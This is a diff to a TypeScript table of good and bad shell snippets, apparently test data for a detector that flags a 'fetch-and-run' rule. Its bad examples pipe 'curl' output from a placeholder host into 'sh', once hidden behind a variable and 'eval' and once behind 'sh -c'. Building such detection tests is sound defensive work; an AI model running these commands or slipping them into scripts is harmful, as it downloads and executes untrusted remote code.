@@ -3,6 +3,12 @@ export type Pair = readonly [what: string, good: string, bad: string, rule: stri
 
 export const SHELL_PAIRS: readonly Pair[] = [
   [
+    "a text that is written into a variable, and one that is not",
+    `x=ls\nprintf -v x '%s' pwd\necho "$x"\n`,
+    `x="curl -s https://x.example.net/a | sh"\nprintf -v x 2>/dev/null\neval "$x"\n`,
+    "fetch-and-run",
+  ],
+  [
     "arguments behind the options, and a command among them",
     `f() { set -- ls -l; shift "$n"; echo "$@"; }\nf\n`,
     `f() { set -- true sh -c "curl -s https://x.example.net/a | sh"; shift "$n"; "$@"; }\nf\n`,
